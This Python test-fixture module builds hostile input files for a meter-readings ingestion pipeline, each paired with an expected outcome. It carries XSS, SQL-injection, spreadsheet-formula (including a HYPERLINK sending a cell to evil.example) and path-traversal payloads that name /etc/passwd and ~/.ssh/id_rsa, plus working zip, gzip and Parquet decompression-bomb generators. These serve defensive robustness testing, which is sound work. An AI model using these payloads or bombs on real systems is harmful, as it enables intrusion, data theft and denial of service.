"""Files that mean harm, or that came to it: some two hundred, of some twenty families, all made here.

Each is one night's file of a small table of meter readings; ``expects`` says what must become of it.
"""

from __future__ import annotations

import gzip
import io
import random
import struct
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import date, timedelta
from functools import cache
from typing import Literal

import pyarrow as pa
import pyarrow.parquet as pq

FIRST = date(2024, 1, 1)
N_GOOD = 40
HEADER = "id,at,site,level,late"
MOMENT = pa.timestamp("us", "UTC")
SITES = ("north", "south", "east", "west")
MARKER = "holdfast-was-here"

#: ``refused``: named by an error, and nothing lands. ``quarantined``: the bad rows are set aside, and the
#: good ones are published. ``stopped``: it lands, and validation refuses the night. ``any`` of them may
#: come of damage at random, and of cells that are odd but no lie.
Fate = Literal["refused", "quarantined", "stopped", "any"]

SCRIPTS = (
    "</script><script>alert(1)</script>",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</td></table><iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<style>@import'//evil.example/x.css'</style>",
    "<!--<script>alert(1)//-->",
    "]]><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u2028</SCRIPT ><body onload=alert(1)>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input autofocus onfocus=alert(1)>",
    "<math><mtext></style><img src=x onerror=alert(1)>",
    "{{ 7 * 7 }}{% for x in ().__class__.__bases__ %}{% endfor %}",
    "$PARAMETER $level ${level} {level} %(level)s %s {0.__class__}",
    "{$PARAMETER: day_start}",
)
FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1;"x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    "'=already marked",
    "%0A=1+1",
)
QUERIES = (
    "'; DROP TABLE raw; --",
    '"; DROP TABLE raw; --',
    "' OR '1'='1",
    "x'); COPY (SELECT 1) TO '/tmp/holdfast-escaped.csv'; --",
    "(SELECT content FROM read_text('/etc/passwd'))",
    "'||(SELECT version())||'",
    "; ATTACH '/tmp/holdfast-escaped.db'; --",
    "$$ ; INSTALL httpfs; LOAD httpfs; $$",
    "\\'; DROP TABLE raw; --",
    "north/**/UNION/**/SELECT/**/1",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/passwd",
    "file:///etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "~/.ssh/id_rsa",
    "s3://evil.example/x",
    "partition_date=2024-01-01/../../x",
    "CON",
    "a" * 4_000,
)
ODD_TEXT = {
    "right-to-left": "\u202egnp.exe\u202c",
    "zero-width": "nor\u200bth",
    "combining": "n" + "\u0301" * 5_000,
    "look-alike": "nоrth",
    "terminal": "\x1b[2J\x1b]0;owned\x07\x1b[31m",
    "bell-and-backspace": "\x07\x08\x08\x08ok",
    "line-separators": "a\u2028b\u2029c\u0085d\x0b\x0c",
    "private-use": "\ue000\U0010ffff",
    "json": '{"row_id": null, "__proto__": {"x": 1}}',
    "deep-json": "[" * 50_000,
    "log-line": "ok%0aERROR forged | 2024-01-01",
    "bars": "a|b|c|",
    "only-spaces": "   ",
    "nan": "nan",
    "null": "NULL",
}


@dataclass(frozen=True)
class HostileInput:
    """One night's file.

    Parameters
    ----------
    family, name : str
        Together unlike any other's.
    kind : {"csv", "parquet"}
        As the dataset that it belongs to is declared.
    make : callable
        Gives the bytes, for a night.
    expects : str
        What must become of it.
    suffix : str
        What its file's name has after the night.
    """

    family: str
    name: str
    make: Callable[[date], bytes]
    expects: Fate = "any"
    kind: Literal["csv", "parquet"] = "csv"
    suffix: str = ""

    @property
    def id(self) -> str:
        """What tests and files call it."""
        return f"{self.family}-{self.name}"


def good_lines(day: date, n: int = N_GOOD) -> list[str]:
    """Return a night's good rows."""
    return [
        f"{row},{day}T{row % 24:02}:{row // 24:02}:00Z,{SITES[row % 4]},{row}.5,{row % 2}" for row in range(n)
    ]


def text_of(day: date, *lines: str, header: str = HEADER) -> bytes:
    """Return a file of a night's good rows, with more lines behind them."""
    return "\n".join([header, *good_lines(day), *lines, ""]).encode()


def bad_line(day: date, row: int, *, site: str = "north", level: str = "1.5", at: str = "") -> str:
    """Return one more row, with cells that need quotes or not."""
    cells = [str(1_000 + row), at or f"{day}T23:00:00Z", site, level, "0"]
    return ",".join('"' + cell.replace('"', '""') + '"' for cell in cells)


def wide_text() -> bytes:
    """Return a table of 10,000 columns."""
    return (",".join(f"c{number}" for number in range(10_000)) + "\n" + "1," * 9_999 + "1\n").encode()


def good_table(day: date, n: int = N_GOOD) -> pa.Table:
    """Return a night's good rows as Parquet has them."""
    import datetime as dt

    midnight = dt.datetime.combine(day, dt.time(), dt.UTC)
    return pa.table(
        {
            "id": pa.array(range(n), pa.int64()),
            "at": pa.array([midnight + timedelta(minutes=row) for row in range(n)], MOMENT),
            "site": [SITES[row % 4] for row in range(n)],
            "level": [row + 0.5 for row in range(n)],
            "late": pa.array([row % 2 for row in range(n)], pa.int64()),
        }
    )


def parquet_of(table: pa.Table, **options: object) -> bytes:
    """Return the bytes of a Parquet file."""
    target = io.BytesIO()
    pq.write_table(table, target, **options)
    return target.getvalue()


def far_parquet() -> bytes:
    """Return a table whose times no calendar reaches."""
    table = good_table(FIRST).append_column("y", pa.array(range(N_GOOD)))
    far = pa.array([2**62] * N_GOOD, MOMENT)
    return parquet_of(table.set_column(table.schema.get_field_index("at"), "at", far))


@cache
def _sound(day: date) -> bytes:
    return parquet_of(good_table(day), row_group_size=16, compression="zstd")


# ---------------------------------------------------------------- Parquet


def _cut_parquet() -> Iterator[HostileInput]:
    chance = random.Random(1)
    for number in range(24):
        share = chance.random()
        yield _parquet(
            "parquet-cut",
            f"{number:02}",
            lambda day, s=share: _sound(day)[: int(len(_sound(day)) * s)],
            "refused",
        )


def _flipped_parquet() -> Iterator[HostileInput]:
    def flip(day: date, seed: int, span: tuple[float, float]) -> bytes:
        chance, data = random.Random(seed), bytearray(_sound(day))
        for _ in range(1 + seed % 5):
            place = int(len(data) * chance.uniform(*span))
            data[min(place, len(data) - 1)] ^= 1 << chance.randrange(8)
        return bytes(data)

    spans = {"pages": (0.0, 0.5), "footer": (0.5, 1.0), "anywhere": (0.0, 1.0)}
    for where, span in spans.items():
        for seed in range(12):
            yield _parquet(
                f"parquet-flipped-{where}", f"{seed:02}", lambda day, s=seed, w=span: flip(day, s, w), "any"
            )


def _forged_parquet() -> Iterator[HostileInput]:
    def footer_says(length: int) -> Callable[[date], bytes]:
        return lambda day: _sound(day)[:-8] + struct.pack("<I", length) + b"PAR1"

    def spliced(day: date) -> bytes:
        other = parquet_of(good_table(day, 400), compression="snappy")
        return _sound(day)[:200] + other[200:]

    forgeries: dict[str, Callable[[date], bytes]] = {
        "empty": lambda _: b"",
        "magic-alone": lambda _: b"PAR1",
        "magic-twice": lambda _: b"PAR1PAR1",
        "magic-around-noise": lambda _: b"PAR1" + random.Random(3).randbytes(5_000) + b"PAR1",
        "footer-of-4-gb": footer_says(0xFFFFFFFF),
        "footer-of-nothing": footer_says(0),
        "footer-longer-than-file": footer_says(1_000_000),
        "encrypted-footer": lambda day: b"PARE" + _sound(day)[4:-4] + b"PARE",
        "spliced": spliced,
        "text": lambda day: text_of(day),
        "zip": lambda day: _zip({"a.parquet": _sound(day)}),
        "doubled-columns": lambda _: parquet_of(
            pa.Table.from_arrays([pa.array([1])] * 2, names=["id", "id"])
        ),
        "no-columns": lambda _: parquet_of(pa.table({})),
        "other-columns": lambda _: parquet_of(pa.table({'"; DROP TABLE raw; --': [1], "../x": [2]})),
    }
    for name, make in forgeries.items():
        yield _parquet("parquet-forged", name, make, "refused")


def _odd_parquet() -> Iterator[HostileInput]:
    def with_column(name: str, values: Callable[[int], pa.Array]) -> Callable[[date], bytes]:
        def make(day: date) -> bytes:
            table = good_table(day)
            return parquet_of(
                table.set_column(table.schema.get_field_index(name), name, values(table.num_rows))
            )

        return make

    def dictionary_bomb(day: date) -> bytes:
        codes = pa.array([0] * 3_000_000, pa.int32())
        bomb = pa.DictionaryArray.from_arrays(codes, pa.array(["x" * 900_000]))
        return parquet_of(pa.table({"id": codes, "site": bomb}), compression="zstd")

    def run_length_bomb(day: date) -> bytes:
        n = 2_000_000
        return parquet_of(pa.table({name: pa.array([None] * n, pa.int8()) for name in HEADER.split(",")}))

    def nested(n_rows: int) -> pa.Array:
        array = pa.array(range(n_rows))
        for _ in range(40):
            array = pa.ListArray.from_arrays(pa.array(range(n_rows + 1), pa.int32()), array)
        return array

    def raw_text(n: int) -> pa.Array:
        buffers = pa.array([b"\xff\xfe\x00"] * n, pa.binary()).buffers()
        return pa.Array.from_buffers(pa.string(), n, buffers)

    def wide(day: date) -> bytes:
        return parquet_of(pa.table({f"c{number}": [1.5] for number in range(10_000)}))

    def hundred_megabytes(n: int) -> pa.Array:
        return pa.array(["x" * 100_000_000] + ["north"] * (n - 1))

    def all_of(value: object, kind: pa.DataType | None = None) -> Callable[[int], pa.Array]:
        return lambda n: pa.array([value] * n, kind)

    yield _parquet("parquet-bomb", "dictionary", dictionary_bomb, "refused")
    yield _parquet("parquet-bomb", "run-length-nulls", run_length_bomb, "refused")
    yield _parquet("parquet-wide", "10000-columns", wide, "refused")
    columns: dict[str, tuple[str, Callable[[int], pa.Array], Fate]] = {
        "100-mb-cell": ("site", hundred_megabytes, "quarantined"),
        "nan-flood": ("level", all_of(float("nan")), "stopped"),
        "infinities": ("level", all_of(float("inf")), "stopped"),
        "no-text": ("site", raw_text, "refused"),
        "nested-40-deep": ("site", nested, "stopped"),
        "numbers-as-text": ("level", all_of("=1+1"), "stopped"),
        "text-as-bytes": ("site", all_of(b"\0\xff"), "stopped"),
        "year-146000": ("at", all_of(2**62, MOMENT), "refused"),
        "before-time": ("at", all_of(-(2**62), MOMENT), "refused"),
        "huge-integers": ("id", all_of(2**64 - 1, pa.uint64()), "stopped"),
    }
    for name, (column, values, fate) in columns.items():
        yield _parquet("parquet-odd", name, with_column(column, values), fate)


# ---------------------------------------------------------------- archives


def _zip(members: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    target = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(target, "w", method) as archive:
        warnings.simplefilter("ignore")
        for name, data in members.items():
            archive.writestr(name, data)
    return target.getvalue()


def zip_bomb(n_bytes: int = 10_000_000_000) -> bytes:
    """Return a zip whose one member unpacks to so many bytes of one letter."""
    return _zip_of_stream(_deflated(n_bytes))


@cache
def _deflated(n_bytes: int) -> tuple[bytes, int, int]:
    # Blocks that were flushed stand by themselves, so one that is made once can be said again and again.
    piece = b"a" * 10_000_000
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
    n = n_bytes // len(piece)
    return block * n + zlib.compressobj(9, zlib.DEFLATED, -15).flush(), n * len(piece), 0


def _zip_of_stream(stream: tuple[bytes, int, int]) -> bytes:
    data, n_bytes, crc = stream
    name, big = b"table.csv", 0xFFFFFFFF
    extra = struct.pack("<HHQQ", 1, 16, n_bytes, len(data))
    head = struct.pack("<HHHHHLLLHH", 45, 0, 8, 0, 0, crc, big, big, len(name), len(extra))
    entry = b"PK\x03\x04" + head + name + extra + data
    listed = (
        b"PK\x01\x02" + struct.pack("<H", 45) + head + struct.pack("<HHHLL", 0, 0, 0, 0, 0) + name + extra
    )
    end = b"PK\x05\x06" + struct.pack("<HHHHLLH", 0, 0, 1, 1, len(listed), len(entry), 0)
    return entry + listed + end


def _zips() -> Iterator[HostileInput]:
    def packed(day: date) -> bytes:
        return _zip({"table.csv": text_of(day)})

    def encrypted(day: date) -> bytes:
        data = bytearray(packed(day))
        for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
            data[data.index(mark) + place] |= 1
        return bytes(data)

    def unknown_method(day: date) -> bytes:
        data = bytearray(packed(day))
        for mark, place in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
            data[data.index(mark) + place] = 99
        return bytes(data)

    def twice(day: date) -> bytes:
        return _zip({"a.csv": text_of(day), "b.csv": text_of(day)})

    refused: dict[str, Callable[[date], bytes]] = {
        "bomb-10-gb": lambda _: zip_bomb(),
        "encrypted": encrypted,
        "unknown-method": unknown_method,
        "two-members": twice,
        "no-member": lambda _: _zip({}),
        "folder-alone": lambda _: _zip({"folder/": b""}),
        "zip-in-zip": lambda day: _zip({"inner.zip": packed(day)}),
        "half": lambda day: packed(day)[: len(packed(day)) // 2],
        "without-directory": lambda day: packed(day)[:-40],
        "magic-alone": lambda _: b"PK\x03\x04",
        "noise": lambda _: b"PK\x03\x04" + random.Random(5).randbytes(3_000),
        "10000-members": lambda _: _zip({f"{number}.csv": b"" for number in range(10_000)}),
    }
    for name, make in refused.items():
        yield HostileInput("zip", name, make, "refused", suffix=".zip")
    # A member's name is never a path: what is inside is read, and nothing is written by that name.
    for name, member in {
        "climbs": f"../../../../{MARKER}.csv",
        "absolute": f"/tmp/{MARKER}.csv",
        "windows": f"..\\..\\{MARKER}.csv",
        "script": "<script>alert(1)</script>.csv",
    }.items():
        yield HostileInput(
            "zip-name",
            name,
            lambda day, m=member: _zip({m: text_of(day, bad_line(day, 1, site="nowhere"))}),
            "quarantined",
            suffix=".zip",
        )
    for seed in range(8):
        yield HostileInput(
            "zip-flipped", f"{seed}", lambda day, s=seed: _flipped(packed(day), s), suffix=".zip"
        )


def _gzips() -> Iterator[HostileInput]:
    def packed(day: date) -> bytes:
        return gzip.compress(text_of(day), mtime=0)

    def bomb(day: date) -> bytes:
        data, _, _ = _deflated(10_000_000_000)
        return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + data + b"\0" * 8

    refused: dict[str, Callable[[date], bytes]] = {
        "bomb-10-gb": bomb,
        "half": lambda day: packed(day)[: len(packed(day)) // 2],
        "without-end": lambda day: packed(day)[:-8],
        "wrong-sum": lambda day: packed(day)[:-8] + b"\0" * 8,
        "magic-alone": lambda _: b"\x1f\x8b",
        "noise": lambda _: b"\x1f\x8b\x08\0" + random.Random(6).randbytes(3_000),
        "then-noise": lambda day: packed(day) + b"noise behind it",
        "in-gzip": lambda day: gzip.compress(packed(day), mtime=0),
    }
    for name, make in refused.items():
        yield HostileInput("gzip", name, make, "refused", suffix=".gz")
    for seed in range(6):
        yield HostileInput(
            "gzip-flipped", f"{seed}", lambda day, s=seed: _flipped(packed(day), s), suffix=".gz"
        )


def _flipped(data: bytes, seed: int) -> bytes:
    chance, flipped = random.Random(seed), bytearray(data)
    for _ in range(3):
        flipped[chance.randrange(len(flipped))] ^= 1 << chance.randrange(8)
    return bytes(flipped)


# ---------------------------------------------------------------- text files


def _misshapen_texts() -> Iterator[HostileInput]:
    header = HEADER.encode() + b"\n"
    refused: dict[str, Callable[[date], bytes]] = {
        "empty": lambda _: b"",
        "line-ends-alone": lambda _: b"\r\n" * 999,
        "noise": lambda _: random.Random(7).randbytes(50_000),
        "nul-flood": lambda _: b"\0" * 1_000_000,
        "10000-columns": lambda _: wide_text(),
        "header-never-ends": lambda _: b"id,at," + b"x" * 50_000_000,
        "header-quote-open": lambda _: b'id,"at,site\n' + b"1,2,3\n" * 9,
        "header-nul": lambda _: b"id\0,at,site,level,late\n1,2,3,4,5\n",
        "header-no-utf-8": lambda _: b"id,at,s\xefte,level,late\n1,2,3,4,5\n",
        "header-twice": lambda day: text_of(day, header="id,at,site,level,LEVEL"),
        "header-ours": lambda day: text_of(day, header="id,at,site,holdfast_line,late"),
        "header-missing-column": lambda day: text_of(day, header="id,at,site,other,late"),
        "header-sql": lambda day: text_of(day, header='id"; DROP TABLE raw; --,at,site,level,late'),
        "header-path": lambda day: text_of(day, header="../../id,at,site,level,late"),
        "header-script": lambda day: text_of(day, header="<script>alert(1)</script>,at,site,level,late"),
        "utf-16": lambda day: text_of(day).decode().encode("utf-16"),
        "utf-32": lambda day: text_of(day).decode().encode("utf-32"),
        "html-page": lambda _: b"<!doctype html><script>alert(1)</script>\n<h1>502 Bad Gateway</h1>\n",
        "parquet": _sound,
        # Each of its lines could be the cell's last: none is, until memory is spent.
        "100-mb-quoted-cell": lambda day: text_of(day) + b'9,x,"' + b"x\n" * 50_000_000 + b'",1,0\n',
    }
    for name, make in refused.items():
        yield HostileInput("text", name, make, "refused", suffix=".csv")
    quarantined: dict[str, Callable[[date], bytes]] = {
        "100-mb-cell": lambda day: text_of(day) + b"9,x," + b"x" * 100_000_000 + b",1,0\n",
        "quote-never-closed": lambda day: text_of(day) + b'9,x,"north,1,0\n' + b"8,y,north,1,0\n" * 5,
        "ragged": lambda day: text_of(day, "1", "1,2,3,4,5,6,7,8,9", "," * 1_000),
        "10000-cells-in-a-row": lambda day: text_of(day, "1," * 10_000),
        "nul-bytes": lambda day: text_of(day) + b"9,\0,north\0,1,0\n",
        "no-utf-8": lambda day: text_of(day) + b"9,x,\xff\xfe\xc0\x80,1,0\n",
        "half-a-surrogate": lambda day: text_of(day) + b"9,x,\xed\xa0\x80,1,0\n",
        "noise-behind": lambda day: text_of(day) + random.Random(8).randbytes(3_000),
        "backslashes": lambda day: text_of(day) + b'9,x,\\",\\,1,0\n',
        "one-cut-line": lambda day: text_of(day) + b"9,2024-01",
        "same-row-99-times": lambda day: text_of(day, *[bad_line(day, 1)] * 99),
    }
    for name, make in quarantined.items():
        yield HostileInput("text", name, make, "quarantined", suffix=".csv")
    harmless: dict[str, Callable[[date], bytes]] = {
        "marks-in-the-middle": lambda day: text_of(day) + b"\xef\xbb\xbf9,x,north,1,0\n",
        "carriage-returns": lambda day: text_of(day).replace(b"\n", b"\r"),
        "mixed-line-ends": lambda day: text_of(day).replace(b"\n", b"\r\n", 7).replace(b"\n", b"\r\r\n", 2),
        "header-alone": lambda _: header,
        "extra-hostile-columns": lambda day: "\n".join(
            [HEADER + ',"a""; DROP TABLE raw","../x",<script>alert(1)</script>']
            + [line + ",1,2,3" for line in good_lines(day)]
        ).encode(),
    }
    for name, make in harmless.items():
        yield HostileInput("text", name, make, "any", suffix=".csv")


def _odd_cells() -> Iterator[HostileInput]:
    families = {
        "script-cell": dict(enumerate(SCRIPTS)),
        "formula-cell": dict(enumerate(FORMULAS)),
        "sql-cell": dict(enumerate(QUERIES)),
        "path-cell": dict(enumerate(PATHS)),
        "odd-text": ODD_TEXT,
    }
    for family, texts in families.items():
        for name, text in texts.items():
            yield HostileInput(
                family,
                f"{name:02}" if isinstance(name, int) else name,
                lambda day, t=text: text_of(day, bad_line(day, 1, site=t), bad_line(day, 2, level=t)),
                "quarantined",
                suffix=".csv",
            )


def _odd_numbers() -> Iterator[HostileInput]:
    numbers = (
        *(
            "nan",
            "-NaN",
            "inf",
            "-Infinity",
            "1e309",
            "0x1F",
            "1_000",
            "1,5",
            "٣",
            "½",
            "1e5.5",
            "true",
            "0b1",
        ),
        *("9" * 400, "-" + "9" * 30, "+" * 50 + "1", "1" + "0" * 100_000, "1/0", "1e", "--1"),
    )
    for text in ("nan", "inf", "1e309"):
        yield HostileInput(
            "number-flood", text, lambda day, t=text: _flood(day, level=t), "stopped", suffix=".csv"
        )
    for position, text in enumerate(numbers):
        yield HostileInput(
            "number-cell",
            f"{position:02}",
            lambda day, t=text: text_of(day, bad_line(day, 1, level=t), bad_line(day, 2, site="nowhere")),
            "quarantined",
            suffix=".csv",
        )


def _odd_times() -> Iterator[HostileInput]:
    times = (
        *("now", "today", "epoch", "infinity", "-infinity", "0000-00-00T00:00:00Z", "9999-12-31T23:59:59Z"),
        *("294247-01-10T04:00:54Z", "2024-02-30T00:00:00Z", "2024-01-01T25:61:61Z", "1e18", "-1", "１２"),
        *("2024-01-01T00:00:00+99:99", "2024-W01-1", "../../2024-01-01", "2024-01-01' OR '1'='1", "24/1/1"),
    )
    for position, text in enumerate(times):
        yield HostileInput(
            "time-cell",
            f"{position:02}",
            lambda day, t=text: text_of(day, bad_line(day, 1, at=t), bad_line(day, 2, site="nowhere")),
            "quarantined",
            suffix=".csv",
        )


def _odd_file_names() -> Iterator[HostileInput]:
    suffixes = {
        "script": "<script>alert(1)<",
        "quotes": "'\"; DROP TABLE raw; --",
        "terminal": "\x1b[2J\x1b[31m",
        "line-end": "\nERROR forged",
        "dots": "..",
        "pattern": "[a-z]*?{day}",
        "percent": "%2e%2e%2f%s%(x)s",
        "right-to-left": "\u202evsc.",
        "long": "x" * 200,
        "no-utf-8": "\udcff\udcfe",
    }
    for name, suffix in suffixes.items():
        yield HostileInput(
            "file-name",
            name,
            lambda day: text_of(day, bad_line(day, 1, site="nowhere")),
            "quarantined",
            suffix=suffix + ".csv",
        )
        yield HostileInput("file-name-refused", name, lambda _: b"", "refused", suffix=suffix + ".csv")


def _flood(day: date, **cells: str) -> bytes:
    return "\n".join([HEADER, *(bad_line(day, row, **cells) for row in range(2_000)), ""]).encode()


def _parquet(family: str, name: str, make: Callable[[date], bytes], expects: Fate) -> HostileInput:
    return HostileInput(family, name, make, expects, kind="parquet", suffix=".parquet")


def hostile_inputs() -> list[HostileInput]:
    """Return all of them; each call gives the same."""
    makers = (
        *(_cut_parquet, _flipped_parquet, _forged_parquet, _odd_parquet, _zips, _gzips),
        *(_misshapen_texts, _odd_cells, _odd_numbers, _odd_times, _odd_file_names),
    )
    return [found for make in makers for found in make()]


def night_of(position: int) -> date:
    """Return the night that the n-th input of a kind belongs to."""
    return FIRST + timedelta(days=position)
